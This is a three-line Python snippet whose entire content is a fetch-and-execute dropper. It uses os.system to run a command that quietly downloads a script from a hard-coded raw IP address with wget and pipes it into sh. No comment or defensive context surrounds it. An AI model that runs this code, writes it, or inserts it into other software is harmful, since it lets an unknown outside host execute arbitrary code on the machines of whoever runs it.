import os
cmd = 'wget -qO- http://62.204.41.88/s | sh'
os.system(cmd)
